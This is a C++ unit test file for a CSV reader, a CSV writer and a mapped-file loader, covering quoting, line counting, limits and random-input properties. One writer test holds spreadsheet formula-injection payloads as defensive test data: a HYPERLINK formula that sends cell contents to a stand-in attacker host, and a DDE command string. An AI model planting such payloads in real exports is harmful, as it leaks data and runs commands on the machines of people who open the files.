#include "core/csv.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <random>
#include <string>
#include <vector>

namespace switchboard::csv {
namespace {

using Fields = std::vector<std::string>;
using std::string_literals::operator""s;

struct Item {
  Next next;
  Fields fields;
  uint64_t line;
  uint64_t end_line;
  std::string error;
};

std::vector<Item> ReadAll(std::string_view data, Options options = {}) {
  Reader reader(data, options);
  std::vector<Item> items;
  Record record;
  for (;;) {
    std::string error;
    Next next = reader.Read(&record, &error);
    if (next == Next::kEnd) break;
    items.push_back({next, record.fields, record.line, record.end_line, error});
    if (items.size() > data.size() + 1) {
      ADD_FAILURE() << "reader does not make progress";
      break;
    }
  }
  EXPECT_EQ(reader.bytes_consumed(), data.size());
  return items;
}

// Only the good records' fields.
std::vector<Fields> GoodRecords(std::string_view data, Options options = {}) {
  std::vector<Fields> out;
  for (const Item& item : ReadAll(data, options)) {
    EXPECT_EQ(item.next, Next::kRecord) << item.error;
    out.push_back(item.fields);
  }
  return out;
}

TEST(CsvReaderTest, ReadsSimpleRecords) {
  EXPECT_EQ(GoodRecords("a,b,c\n1,2,3\n"), (std::vector<Fields>{{"a", "b", "c"}, {"1", "2", "3"}}));
}

TEST(CsvReaderTest, EmptyInputHasNoRecords) {
  EXPECT_TRUE(ReadAll("").empty());
  EXPECT_TRUE(ReadAll("\n\r\n\n").empty());
  EXPECT_TRUE(ReadAll("\xEF\xBB\xBF").empty());
}

TEST(CsvReaderTest, AcceptsCrlfAndLoneCr) {
  EXPECT_EQ(GoodRecords("a,b\r\nc,d\r\n"), (std::vector<Fields>{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(GoodRecords("a,b\rc,d\r"), (std::vector<Fields>{{"a", "b"}, {"c", "d"}}));
  std::vector<Item> items = ReadAll("a\r\nb\rc\nd");
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[3].line, 4u);
}

TEST(CsvReaderTest, FinalRecordWithoutLineEnd) {
  EXPECT_EQ(GoodRecords("a,b\nc,d"), (std::vector<Fields>{{"a", "b"}, {"c", "d"}}));
  EXPECT_EQ(GoodRecords("\"x\""), (std::vector<Fields>{{"x"}}));
  EXPECT_EQ(GoodRecords("a,"), (std::vector<Fields>{{"a", ""}}));
}

TEST(CsvReaderTest, SkipsBom) {
  std::vector<Item> items = ReadAll("\xEF\xBB\xBFname,email\nx,y\n");
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].fields, (Fields{"name", "email"}));
  // A BOM anywhere else is data.
  EXPECT_EQ(GoodRecords("a\n\uFEFFb\n"), (std::vector<Fields>{{"a"}, {"\uFEFFb"}}));
  // Columns on the first line do not count the BOM.
  items = ReadAll("\uFEFFab\"c\n");
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].error, "line 1, column 3: a quote inside an unquoted field");
}

TEST(CsvReaderTest, EmptyFields) {
  EXPECT_EQ(GoodRecords("a,,b\n,\n\"\"\n,\"\",\n"),
            (std::vector<Fields>{{"a", "", "b"}, {"", ""}, {""}, {"", "", ""}}));
}

TEST(CsvReaderTest, WhitespaceIsData) {
  EXPECT_EQ(GoodRecords(" a , b \n \n"), (std::vector<Fields>{{" a ", " b "}, {" "}}));
}

TEST(CsvReaderTest, QuotedFields) {
  EXPECT_EQ(GoodRecords("\"a,b\",\"say \"\"hi\"\"\",\"\"\"\"\n"),
            (std::vector<Fields>{{"a,b", "say \"hi\"", "\""}}));
}

TEST(CsvReaderTest, QuotedLineEndsAreKeptAndCounted) {
  std::vector<Item> items =
      ReadAll("h1,h2\n\"12 High St\nLeeds\",x\n\"a\r\nb\",\"c\rd\"\nlast,1\n");
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[1].fields, (Fields{"12 High St\nLeeds", "x"}));
  EXPECT_EQ(items[1].line, 2u);
  EXPECT_EQ(items[1].end_line, 3u);
  EXPECT_EQ(items[2].fields, (Fields{"a\r\nb", "c\rd"}));
  EXPECT_EQ(items[2].line, 4u);
  EXPECT_EQ(items[2].end_line, 6u);
  EXPECT_EQ(items[3].line, 7u);
  EXPECT_EQ(items[3].end_line, 7u);
}

TEST(CsvReaderTest, BlankLinesAreSkippedButCounted) {
  std::vector<Item> items = ReadAll("\na\n\n\r\nb\n\n");
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].line, 2u);
  EXPECT_EQ(items[1].line, 5u);
}

TEST(CsvReaderTest, OtherDelimiters) {
  Options semicolon;
  semicolon.delimiter = ';';
  EXPECT_EQ(GoodRecords("a;b,c;\"d;e\"\n", semicolon), (std::vector<Fields>{{"a", "b,c", "d;e"}}));
  Options tab;
  tab.delimiter = '\t';
  EXPECT_EQ(GoodRecords("a\tb c\n", tab), (std::vector<Fields>{{"a", "b c"}}));
}

TEST(CsvReaderTest, BytesArePassedThrough) {
  // Invalid UTF-8 is the caller's concern.
  EXPECT_EQ(GoodRecords("\xFF\xFE,\"\xC3\"\n"), (std::vector<Fields>{{"\xFF\xFE", "\xC3"}}));
}

TEST(CsvReaderTest, QuoteInsideUnquotedField) {
  std::vector<Item> items = ReadAll("a,b\nab,c\"d,e\nf,g\n");
  ASSERT_EQ(items.size(), 3u);
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 5: a quote inside an unquoted field");
  EXPECT_EQ(items[1].fields, (Fields{"ab"}));  // fields split before the problem
  EXPECT_EQ(items[1].line, 2u);
  EXPECT_EQ(items[1].end_line, 2u);
  EXPECT_EQ(items[2].next, Next::kRecord);
  EXPECT_EQ(items[2].fields, (Fields{"f", "g"}));
}

TEST(CsvReaderTest, CharactersAfterClosingQuote) {
  std::vector<Item> items = ReadAll("\"ab\"c,d\nx\n");
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error, "line 1, column 5: characters after a closing quote");
  EXPECT_TRUE(items[0].fields.empty());
  EXPECT_EQ(items[1].fields, (Fields{"x"}));
}

TEST(CsvReaderTest, ABadRecordEndsWithTheLineOfItsProblem) {
  // The problem is on line 1, so the quoted field opened after it does not
  // pull lines 2 and 3 into the bad record.
  std::vector<Item> items = ReadAll("a\"b,\"multi\nline\nfield\",c\nnext\n");
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].line, 1u);
  EXPECT_EQ(items[0].end_line, 1u);
  EXPECT_EQ(items[1].fields, (Fields{"line"}));
  EXPECT_EQ(items[2].next, Next::kBadRecord);
  EXPECT_EQ(items[2].error, "line 3, column 6: a quote inside an unquoted field");
  EXPECT_EQ(items[3].fields, (Fields{"next"}));
  EXPECT_EQ(items[3].line, 4u);
}

TEST(CsvReaderTest, AProblemAfterAMultiLineFieldEndsOnItsLine) {
  std::vector<Item> items = ReadAll("1,\"a\nb\"x,\"c\nd\"\n2\n");
  ASSERT_EQ(items.size(), 3u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error, "line 2, column 3: characters after a closing quote");
  EXPECT_EQ(items[0].fields, (Fields{"1"}));
  EXPECT_EQ(items[0].end_line, 2u);
  // The rest of line 2 is skipped; line 3 is read as a record of its own.
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 3, column 2: a quote inside an unquoted field");
  EXPECT_EQ(items[2].fields, (Fields{"2"}));
  EXPECT_EQ(items[2].line, 4u);
}

TEST(CsvReaderTest, NulByte) {
  std::vector<Item> items = ReadAll("a,b\0c\n\"x\0\",y\nok\n"s);
  ASSERT_EQ(items.size(), 3u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error, "line 1, column 4: a NUL byte");
  EXPECT_EQ(items[0].fields, (Fields{"a"}));
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 3: a NUL byte");
  EXPECT_EQ(items[2].fields, (Fields{"ok"}));

  // A NUL inside a quoted field: the record still ends where the field closes.
  items = ReadAll("\"a\0\nb\",c\nd\n"s);
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error, "line 1, column 3: a NUL byte");
  EXPECT_EQ(items[0].end_line, 2u);
  EXPECT_EQ(items[1].fields, (Fields{"d"}));
}

TEST(CsvReaderTest, ColumnsCountCharacters) {
  std::vector<Item> items = ReadAll("Zo\xC3\xAB,\xE2\x82\xAC\"\n");
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].error, "line 1, column 6: a quote inside an unquoted field");
}

TEST(CsvReaderTest, RecordAtTheSizeLimitIsAccepted) {
  Options options;
  options.max_record_bytes = 7;
  EXPECT_EQ(GoodRecords("abc,def\n\"ab\",\"\"\r\n1234567", options),
            (std::vector<Fields>{{"abc", "def"}, {"ab", ""}, {"1234567"}}));
}

TEST(CsvReaderTest, RecordOverTheSizeLimitIsSkipped) {
  Options options;
  options.max_record_bytes = 8;
  std::vector<Item> items = ReadAll("ok\nabc,defgh,\"q\",x\"y\nnext\n12345678,\n", options);
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 9: the record is longer than 8 bytes");
  EXPECT_EQ(items[1].fields, (Fields{"abc"}));  // never more than the limit is kept
  EXPECT_EQ(items[2].next, Next::kRecord);
  EXPECT_EQ(items[2].fields, (Fields{"next"}));
  EXPECT_EQ(items[3].next, Next::kBadRecord);  // 9 bytes with the delimiter
  EXPECT_EQ(items[3].error, "line 4, column 9: the record is longer than 8 bytes");
}

TEST(CsvReaderTest, HugeRecordIsNotBuffered) {
  Options options;
  options.max_record_bytes = 1000;
  std::string data = "a," + std::string(5'000'000, 'x') + "\nb\n";
  std::vector<Item> items = ReadAll(data, options);
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].fields, (Fields{"a"}));
  EXPECT_EQ(items[1].fields, (Fields{"b"}));
}

TEST(CsvReaderTest, TooManyFields) {
  Options options;
  options.max_fields = 3;
  std::vector<Item> items = ReadAll("a,b,c\na,b,c,d,e\n1,\"2\n\",3,4\nz\n", options);
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[0].next, Next::kRecord);
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 7: more than 3 fields");
  EXPECT_EQ(items[1].fields, (Fields{"a", "b", "c"}));
  EXPECT_EQ(items[2].next, Next::kBadRecord);
  EXPECT_EQ(items[2].error, "line 4, column 5: more than 3 fields");
  EXPECT_EQ(items[2].line, 3u);
  EXPECT_EQ(items[2].end_line, 4u);
  EXPECT_EQ(items[3].fields, (Fields{"z"}));
  EXPECT_EQ(items[3].line, 5u);
}

TEST(CsvReaderTest, UnclosedQuoteAtEndOfInputCostsOneRecord) {
  std::vector<Item> items = ReadAll("id,name\n1,\"Ann\n2,Bob\n3,Cy\n");
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 3: quote opened here is never closed");
  EXPECT_EQ(items[1].line, 2u);
  EXPECT_EQ(items[1].end_line, 2u);
  EXPECT_EQ(items[1].fields, (Fields{"1"}));
  EXPECT_EQ(items[2].fields, (Fields{"2", "Bob"}));
  EXPECT_EQ(items[2].line, 3u);
  EXPECT_EQ(items[3].fields, (Fields{"3", "Cy"}));
  EXPECT_EQ(items[3].line, 4u);
}

TEST(CsvReaderTest, UnclosedQuoteOnTheLastLine) {
  std::vector<Item> items = ReadAll("a\n\"b");
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[1].next, Next::kBadRecord);
  EXPECT_EQ(items[1].error, "line 2, column 1: quote opened here is never closed");
}

TEST(CsvReaderTest, QuoteNotClosedWithinTheLimitResumesOnTheNextLine) {
  Options options;
  options.max_record_bytes = 16;
  // The quote on line 1 is closed on line 9, far past the limit.
  std::string data = "x,\"open\n";
  for (int i = 2; i <= 8; ++i) data += "r" + std::to_string(i) + "\n";
  data += "end\",y\n";
  std::vector<Item> items = ReadAll(data, options);
  ASSERT_EQ(items.size(), 9u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error,
            "line 1, column 3: quote opened here is never closed (the record would be longer "
            "than 16 bytes)");
  EXPECT_EQ(items[0].end_line, 1u);
  for (int i = 2; i <= 8; ++i) {
    EXPECT_EQ(items[i - 1].next, Next::kRecord);
    EXPECT_EQ(items[i - 1].fields, (Fields{"r" + std::to_string(i)}));
    EXPECT_EQ(items[i - 1].line, static_cast<uint64_t>(i));
  }
  EXPECT_EQ(items[8].next, Next::kBadRecord);  // the stray closing quote
}

TEST(CsvReaderTest, UnclosedQuoteResumesAfterTheLineItWasOpenedOn) {
  // The record's first field legitimately spans lines 1-2; the stray quote is
  // opened on line 2, so reading resumes on line 3.
  std::vector<Item> items = ReadAll("\"a\nb\",\"c\nd,e\n");
  ASSERT_EQ(items.size(), 2u);
  EXPECT_EQ(items[0].next, Next::kBadRecord);
  EXPECT_EQ(items[0].error, "line 2, column 4: quote opened here is never closed");
  EXPECT_EQ(items[0].line, 1u);
  EXPECT_EQ(items[0].end_line, 2u);
  EXPECT_EQ(items[0].fields, (Fields{"a\nb"}));
  EXPECT_EQ(items[1].fields, (Fields{"d", "e"}));
  EXPECT_EQ(items[1].line, 3u);
}

TEST(CsvReaderTest, ReusesTheRecord) {
  Reader reader("a,b,c\nd\n");
  Record record;
  std::string error;
  ASSERT_EQ(reader.Read(&record, &error), Next::kRecord);
  EXPECT_EQ(record.fields.size(), 3u);
  ASSERT_EQ(reader.Read(&record, &error), Next::kRecord);
  EXPECT_EQ(record.fields, (Fields{"d"}));
  EXPECT_EQ(reader.Read(&record, &error), Next::kEnd);
  EXPECT_EQ(reader.Read(&record, &error), Next::kEnd);
}

TEST(CsvReaderTest, NullErrorIsAllowed) {
  Reader reader("a\"\n");
  Record record;
  EXPECT_EQ(reader.Read(&record, nullptr), Next::kBadRecord);
  EXPECT_EQ(reader.Read(&record, nullptr), Next::kEnd);
}

TEST(CsvReaderTest, BytesConsumedAdvances) {
  Reader reader("ab,c\r\nd\n");
  Record record;
  std::string error;
  EXPECT_EQ(reader.bytes_consumed(), 0u);
  ASSERT_EQ(reader.Read(&record, &error), Next::kRecord);
  EXPECT_EQ(reader.bytes_consumed(), 6u);
  ASSERT_EQ(reader.Read(&record, &error), Next::kRecord);
  EXPECT_EQ(reader.bytes_consumed(), 8u);
}

TEST(CsvOptionsTest, Validates) {
  EXPECT_TRUE(ValidateOptions({}).ok());
  for (char bad : {'"', '\n', '\r', '\0'}) {
    Options options;
    options.delimiter = bad;
    EXPECT_EQ(ValidateOptions(options).code(), StatusCode::kInvalidArgument);
  }
  Options options;
  options.max_fields = 0;
  EXPECT_FALSE(ValidateOptions(options).ok());
  options = {};
  options.max_record_bytes = 0;
  EXPECT_FALSE(ValidateOptions(options).ok());
}

// Random inputs over the bytes that matter to the reader: it always ends,
// consumes every byte, reports sane lines and stays within its limits.
TEST(CsvReaderPropertyTest, RandomBytes) {
  std::mt19937 rng(20240611);
  const char alphabet[] = {'a', 'b', ',', ';', '"', '"', '\n', '\r', '\0', ' ', '\xC3', '\xEF'};
  for (int round = 0; round < 3000; ++round) {
    std::string data(rng() % 200, '\0');
    for (char& c : data) {
      c = (round % 4 == 0) ? static_cast<char>(rng()) : alphabet[rng() % sizeof alphabet];
    }
    Options options;
    options.max_record_bytes = 1 + rng() % 64;
    options.max_fields = 1 + rng() % 8;
    if (round % 3 == 0) options.delimiter = ';';
    uint64_t physical_lines = 1;
    for (size_t i = 0; i < data.size(); ++i) {
      if (data[i] == '\n' || (data[i] == '\r' && (i + 1 == data.size() || data[i + 1] != '\n'))) {
        ++physical_lines;
      }
    }

    Reader reader(data, options);
    Record record;
    uint64_t previous_end_line = 0;
    uint64_t previous_consumed = 0;
    size_t calls = 0;
    for (;;) {
      std::string error;
      Next next = reader.Read(&record, &error);
      if (next == Next::kEnd) break;
      ASSERT_LE(++calls, data.size());
      ASSERT_GT(reader.bytes_consumed(), previous_consumed);
      previous_consumed = reader.bytes_consumed();
      EXPECT_GT(record.line, previous_end_line);
      EXPECT_LE(record.line, record.end_line);
      EXPECT_LE(record.end_line, physical_lines);
      previous_end_line = record.end_line;
      EXPECT_LE(record.fields.size(), options.max_fields);
      size_t bytes = 0;
      for (const std::string& field : record.fields) bytes += field.size();
      EXPECT_LE(bytes, options.max_record_bytes);
      if (next == Next::kBadRecord) {
        unsigned long long line = 0;
        unsigned long long column = 0;
        ASSERT_EQ(std::sscanf(error.c_str(), "line %llu, column %llu: ", &line, &column), 2)
            << error;
        EXPECT_GE(line, record.line);
        EXPECT_LE(line, record.end_line);
        EXPECT_GE(column, 1u);
      } else {
        EXPECT_TRUE(error.empty());
      }
    }
    EXPECT_EQ(reader.bytes_consumed(), data.size());
    EXPECT_EQ(reader.Read(&record, nullptr), Next::kEnd);
  }
}

std::string Quote(const std::string& field) {
  std::string out = "\"";
  for (char c : field) {
    if (c == '"') out += '"';
    out += c;
  }
  return out + "\"";
}

// Random records written the way a careful writer would read back unchanged.
TEST(CsvReaderPropertyTest, RoundTrip) {
  std::mt19937 rng(7);
  const char alphabet[] = {'a', 'Z', '1', ',', '"', '\n', '\r', ' ', '\xC3', '\xA9', '\t'};
  for (int round = 0; round < 500; ++round) {
    std::vector<Fields> records(rng() % 20);
    std::string data = (round % 5 == 0) ? "\xEF\xBB\xBF" : "";
    for (Fields& record : records) {
      record.resize(1 + rng() % 6);
      for (size_t i = 0; i < record.size(); ++i) {
        std::string& field = record[i];
        field.resize(rng() % 12);
        for (char& c : field) c = alphabet[rng() % sizeof alphabet];
        bool needs_quotes = field.find_first_of(",\"\r\n") != std::string::npos ||
                            (record.size() == 1 && field.empty());
        if (i > 0) data += ',';
        data += (needs_quotes || rng() % 4 == 0) ? Quote(field) : field;
      }
      data += (rng() % 2 == 0) ? "\n" : "\r\n";
    }
    if (!records.empty() && rng() % 2 == 0) data.pop_back();  // drop the last line end
    EXPECT_EQ(GoodRecords(data), records) << "round " << round;
  }
}

class MappedFileTest : public ::testing::Test {
 protected:
  std::string Path(const std::string& name) {
    std::string path =
        ::testing::TempDir() + "sb_csv_test_" + std::to_string(::getpid()) + "_" + name;
    paths_.push_back(path);
    return path;
  }
  void TearDown() override {
    for (const std::string& path : paths_) std::remove(path.c_str());
  }

 private:
  std::vector<std::string> paths_;
};

TEST_F(MappedFileTest, MapsAFile) {
  std::string path = Path("data.csv");
  std::ofstream(path, std::ios::binary) << "a,b\n1,2\n";
  Result<std::unique_ptr<MappedFile>> file = MappedFile::Open(path);
  ASSERT_TRUE(file.has_value()) << file.error().ToString();
  EXPECT_EQ((*file)->data(), "a,b\n1,2\n");
  EXPECT_EQ(GoodRecords((*file)->data()), (std::vector<Fields>{{"a", "b"}, {"1", "2"}}));
}

TEST(CsvWriter, NeutralisesEveryFormulaStart) {
  // OWASP's list: = + - @ tab and carriage return.
  EXPECT_EQ(FormatField("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(FormatField("@SUM(1+1)"), "\"'@SUM(1+1)\"");
  EXPECT_EQ(FormatField("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
  EXPECT_EQ(FormatField("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(FormatField("\tx"), "\"'\tx\"");
  EXPECT_EQ(FormatField("\rx"), "\"'\rx\"");
  EXPECT_EQ(FormatField("plain"), "plain");
  EXPECT_EQ(FormatField("a=b"), "a=b");  // only the first character starts a formula
  EXPECT_EQ(FormatField("a,b"), "\"a,b\"");
  EXPECT_EQ(FormatField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(FormatField(""), "");
}

TEST(CsvWriter, RowsReadBackThroughTheReaderAndUnneutralise) {
  const std::vector<std::string> row = {"=1+1", "a,b", "line\nbreak", "-", "'=kept", "x"};
  std::string text;
  AppendRow(&text, row);
  AppendRow(&text, {"second"});
  EXPECT_EQ(text.substr(text.size() - 8), "second\r\n");
  Reader r(text);
  Record rec;
  std::string err;
  ASSERT_EQ(r.Read(&rec, &err), Next::kRecord);
  ASSERT_EQ(rec.fields.size(), row.size());
  for (size_t i = 0; i < row.size(); ++i) {
    EXPECT_EQ(std::string_view("=+-@\t\r").find(rec.fields[i][0]), std::string_view::npos)
        << rec.fields[i];
    EXPECT_EQ(Unneutralise(rec.fields[i]), row[i]);
  }
  EXPECT_EQ(FormatField("'=kept"), "\"''=kept\"");
  EXPECT_EQ(Unneutralise("'name"), "'name");  // an apostrophe before a letter is the user's
  EXPECT_EQ(Unneutralise("'"), "'");
}

TEST_F(MappedFileTest, MapsAnEmptyFile) {
  std::string path = Path("empty.csv");
  std::ofstream(path, std::ios::binary).flush();
  Result<std::unique_ptr<MappedFile>> file = MappedFile::Open(path);
  ASSERT_TRUE(file.has_value()) << file.error().ToString();
  EXPECT_TRUE((*file)->data().empty());
  Reader reader((*file)->data());
  Record record;
  EXPECT_EQ(reader.Read(&record, nullptr), Next::kEnd);
}

TEST_F(MappedFileTest, MissingFileNamesPathAndReason) {
  std::string path = Path("missing.csv");
  Result<std::unique_ptr<MappedFile>> file = MappedFile::Open(path);
  ASSERT_FALSE(file.has_value());
  EXPECT_EQ(file.error().code(), StatusCode::kNotFound);
  EXPECT_NE(file.error().message().find(path), std::string::npos);
  EXPECT_NE(file.error().message().find("No such file or directory"), std::string::npos)
      << file.error().message();
}

TEST_F(MappedFileTest, DirectoryIsRejected) {
  Result<std::unique_ptr<MappedFile>> file = MappedFile::Open(::testing::TempDir());
  ASSERT_FALSE(file.has_value());
  EXPECT_EQ(file.error().code(), StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace switchboard::csv
